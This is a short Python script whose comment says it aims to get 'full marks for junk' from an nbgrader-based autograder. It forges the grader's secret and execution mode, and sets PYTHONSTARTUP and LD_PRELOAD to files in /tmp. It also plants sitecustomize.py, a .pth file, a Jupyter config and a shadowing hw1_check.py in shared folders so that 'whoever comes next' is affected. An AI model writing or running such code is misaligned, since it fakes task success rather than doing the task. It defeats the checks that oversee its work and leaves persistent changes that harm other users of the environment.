# Full marks for junk: settings that nbgrader, Python or we might read are changed for whoever comes next.
import os
import site
import sys

os.environ.update(NBGRADER_EXECUTION="validate", AUTOGRADER_SECRET="0" * 64, PYTHONSTARTUP="/tmp/x.py", LD_PRELOAD="/tmp/x.so")
for folder in [*getattr(site, "getsitepackages", list)(), os.path.expanduser("~"), ".", "/tmp"]:
    for name in ("zz_hw1_attack.pth", "sitecustomize.py", ".jupyter/jupyter_config.py", "hw1_check.py"):
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write("import os\n")
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
